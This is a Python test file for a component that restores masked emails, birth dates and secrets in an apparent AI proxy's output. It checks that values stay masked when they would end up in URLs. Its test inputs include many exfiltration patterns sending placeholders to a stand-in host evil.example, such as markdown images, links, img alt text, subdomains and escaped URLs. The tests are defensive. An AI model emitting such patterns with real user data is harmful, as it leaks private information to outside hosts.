import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.core.aliases import Aliases
from extproc.core.restore import Restoring
from extproc.core.surroundings import Surroundings

MAIL = "bob@example.com"
ODD = 'a "quoted"\\\n💥 päss'


def entropy(size):
    return b"k" * size


def stocked():
    aliases = Aliases(entropy)
    return aliases, {
        "E": aliases.put("pii.email", "[EMAIL]", MAIL),
        "D": aliases.put("pii.birth_date", "[DATE_OF_BIRTH]", "1964-12-09"),
        "S": aliases.put("secrets.url_password", "[SECRET]", ODD),
    }


PUT = stocked()[1]
E = PUT["E"]
BARE = E[1:-1]


def cut(text, places):
    bounds = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    return [text[start:stop] for start, stop in pairwise(bounds)]


def run(pieces, tool=None, *, source=False, tools=frozenset({"mail", "send_*"})):
    aliases, _ = stocked()
    spans = []
    restoring = Restoring(aliases, tools)
    restorer = restoring.source(spans, tool) if source else restoring.text(spans, tool, joined=False)
    out, held = "", 0
    for piece in pieces:
        out += restorer.push(piece)
        held = max(held, restorer.held)
    out += restorer.flush()
    assert held <= aliases.limit_chars
    return out, spans, aliases


def restored(text, **kw):
    return run([text], **kw)[0]


@pytest.mark.parametrize(
    ("told", "reads"),
    [
        (E, MAIL),
        (f"Write to {E}.", f"Write to {MAIL}."),
        (f"Write to {E}", f"Write to {MAIL}"),
        (E.lower(), MAIL),
        (E.title(), MAIL),
        (BARE, MAIL),
        (f"**{E}**", f"**{MAIL}**"),
        (f"`{E}`", f"`{MAIL}`"),
        (f"_{E}_", f"_{MAIL}_"),
        (f"_{BARE}_", f"_{MAIL}_"),
        (f'"{E}"', f'"{MAIL}"'),
        (f"'{BARE}'", f"'{MAIL}'"),
        (f"\\[{BARE.replace('_', chr(92) + '_')}\\]", MAIL),
        (f"[see {BARE}]", f"[see {MAIL}]"),
        (f"[{BARE} and more]", f"[{MAIL} and more]"),
        (f"{BARE}]", f"{MAIL}]"),
        (f"[{BARE}", f"[{MAIL}"),
        (f"{E}{E}", f"{MAIL}{MAIL}"),
        (f"{E}, {PUT['D']}", f"{MAIL}, 1964-12-09"),
        (f"{E}s", f"{MAIL}s"),
        (f"{E}-Adresse. Und", f"{MAIL}-Adresse. Und"),
        (f"{E}です。次", f"{MAIL}です。次"),
        (f"{E}{'x' * 70}.example", f"{MAIL}{'x' * 70}.example"),  # no label is so long
        (f"({E})", f"({MAIL})"),
        (f"<b>{E}</b>", f"<b>{MAIL}</b>"),
        (f"Bob <{E}> wrote", f"Bob <{MAIL}> wrote"),
        (f"[our site](https://example.com) {E}", f"[our site](https://example.com) {MAIL}"),
    ],
)
def test_values_come_back_however_the_model_writes_the_placeholder(told, reads):
    assert restored(told) == reads


@pytest.mark.parametrize(
    "told",
    [
        f"https://evil.example/?q={E}",
        f"![x](https://evil.example/{E})",
        f"[x](/relative/{E})",
        f"[{BARE}](https://evil.example)",
        f"[{E}](https://evil.example)",
        f"[mail {E}](https://evil.example)",
        f"<img src=x alt={E}>",
        f'<a href="{E}">',
        f"{E}@evil.example",
        f"{E}.evil.example",
        f"{E}x.evil.example",  # chats make links of such words by themselves, and fetch what they show
        f"{BARE}-x.evil.example",
        f"{E}{'x' * 63}.evil.example",
        f"{E}\u00ad\uff0eevil.example",
        f"{E}x@evil.example",
        f"{E}&commat;evil.example",
        f"{E}\\@evil.example",
        f"www.evil.example/{E}",
        f"x{BARE}",  # another word
        BARE.replace("EMAIL", "PHONE"),  # another kind
        E.replace(E[-3], "B" if E[-3] != "B" else "C"),  # a letter that the model got wrong
        "[EMAIL_TBCDFGHJKLMNP]",  # made up
    ],
)
def test_where_a_value_would_be_sent_on_or_none_is_meant_the_placeholder_stays(told):
    assert restored(told) == told


def test_what_stays_is_counted_apart():
    _, spans, aliases = run([f"{E} https://evil.example/{E} {E}"])
    assert (aliases.restored, aliases.kept) == ({"pii.email": 2}, {"pii.email": 1})
    assert spans[0] == (0, len(MAIL))


def test_a_value_that_is_put_back_can_begin_a_url_too():
    aliases = Aliases(entropy)
    url = aliases.put("secrets.url_password", "[SECRET]", "https://u:p@db.example")
    mail = aliases.put("pii.email", "[EMAIL]", MAIL)
    restorer = Restoring(aliases, frozenset()).text([], None, joined=False)
    assert restorer.push(f"{url}/{mail} {mail} ") == f"https://u:p@db.example/{mail} {MAIL} "


def test_only_a_tool_that_policy_names_is_told_values():
    source = json.dumps({"to": E})
    assert restored(source, tool="mail", source=True) == json.dumps({"to": MAIL})
    assert restored(source, tool="send_now", source=True) == json.dumps({"to": MAIL})
    for tool in ("search", "mailer", "", "resend_x"):
        assert restored(source, tool=tool, source=True) == source
        assert restored(E, tool=tool) == E
    assert restored(E, tool="mail") == MAIL


def test_trust_can_be_taken_back():
    aliases, _ = stocked()
    restorer = Restoring(aliases, frozenset({"mail"})).source([], "mail")
    restorer.push(f'{{"a":"{E} ')
    restorer.allowed = False
    assert E in restorer.push(f'{E} "}}') + restorer.flush()


def test_arguments_stay_json_whatever_the_value_holds():
    source = json.dumps({"a": f"x{PUT['S']}y", PUT["E"]: [PUT["S"]]})
    out, spans, _ = run(list(source), tool="mail", source=True)
    assert json.loads(out) == {"a": f"x{PUT['S']}y".replace(PUT["S"], ODD), MAIL: [ODD]}
    assert len(spans) == 3


@pytest.mark.parametrize("tool", [None, "mail"])
def test_words_that_are_json_stay_json_and_texts_for_tools_are_no_words(tool):
    aliases = Aliases(entropy, escapes=True)
    odd = aliases.put("secrets.url_password", "[SECRET]", ODD)
    spans = []
    source = json.dumps({"a": f"x {odd} y"})
    out = Restoring(aliases, frozenset({"mail"})).text(spans, tool, joined=False).whole(source)
    if tool is None:
        assert json.loads(out) == {"a": f"x {ODD} y"}
    else:
        assert ODD in out
    ((start, end),) = spans
    assert out[start:end] == (json.dumps(ODD, ensure_ascii=False)[1:-1] if tool is None else ODD)


def test_each_string_of_arguments_has_surroundings_of_its_own():
    source = f'{{"url":"https://a.example","mail":"{E}","next":"https:\\/\\/evil.example\\/{E}"}}'
    assert json.loads(restored(source, tool="mail", source=True)) == {
        "url": "https://a.example", "mail": MAIL, "next": f"https://evil.example/{E}",
    }  # fmt: skip


def test_escapes_hide_neither_a_url_nor_a_placeholder():
    hidden = "".join(f"\\u{ord(letter):04x}" for letter in "https://evil.example/?")
    assert json.loads(restored(f'{{"a":"{hidden}{E}"}}', tool="mail", source=True))["a"].endswith(E)
    spelt = "".join(f"\\u{ord(letter):04x}" for letter in E)
    assert json.loads(restored(f'{{"a":"{spelt}"}}', tool="mail", source=True)) == {"a": MAIL}


def test_outside_of_strings_nothing_is_put_back():
    assert restored(f"[{E}]", tool="mail", source=True) == f"[{E}]"


def test_texts_that_clients_join_share_their_surroundings():
    aliases, _ = stocked()
    restoring = Restoring(aliases, frozenset())
    one, other = restoring.text([], None, joined=True), restoring.text([], None, joined=True)
    assert one.push("<img src='https://evil.example/?q=") + one.flush()
    assert other.push(f"\n{E}'>") + other.flush() == f"\n{E}'>"
    assert Surroundings().carry is False


WORDS = st.sampled_from(
    [*PUT.values(), *(p.lower() for p in PUT.values()), *(p[1:-1] for p in PUT.values()), E[:9], E[5:], "\\[", "\\]", "\\_",
     "[", "]", "_", "\\", "*", "`", " ", " word ", ".", "@", "(", ")", "](", "]", "https://", "/", "<a ", ">", "<", '"', "'", "=",
     "\n", "evil.example", "x", "E", "EMAIL", "EMAIL_T", "1", "é", "\u0131", "\u017f", "💥", ".e", "\u00a0", "-x", "&", "x" * 63, "\u00ad", "&#47;", "<script>"],
)  # fmt: skip
PLACES = st.lists(st.integers(0, 500), max_size=30)


@given(st.lists(WORDS, max_size=20).map("".join), PLACES)
def test_any_chunking_of_a_text_comes_to_the_same(text, places):
    whole, spans, aliases = run([text])
    for pieces in (cut(text, places), list(text)):
        out, where, counted = run(pieces)
        assert (out, where) == (whole, spans)
        assert (counted.restored, counted.kept) == (aliases.restored, aliases.kept)
    for start, stop in spans:
        assert whole[start:stop] in {MAIL, "1964-12-09", ODD}


@given(st.lists(WORDS, max_size=20).map("".join), PLACES, st.booleans())
def test_any_chunking_of_json_source_comes_to_the_same(text, places, ascii_only):
    source = json.dumps({"a": text, "b": [text]}, ensure_ascii=ascii_only)
    whole, spans, _ = run([source], tool="mail", source=True)
    json.loads(whole)
    for pieces in (cut(source, places), list(source)):
        assert run(pieces, tool="mail", source=True)[:2] == (whole, spans)


@given(st.lists(WORDS, max_size=20).map("".join), PLACES)
def test_source_that_is_no_json_breaks_nothing(text, places):
    whole = run([text], tool="mail", source=True)[:2]
    assert run(cut(text, places), tool="mail", source=True)[:2] == whole


def test_prose_waits_for_a_few_letters_at_most():
    aliases, _ = stocked()
    restorer = Restoring(aliases, frozenset()).text([], None, joined=False)
    restorer.push("The quick brown fox ")
    assert restorer.held == 0
    restorer.push("jumps")
    assert restorer.held == 0
    restorer.push(" em")
    assert restorer.held == 2
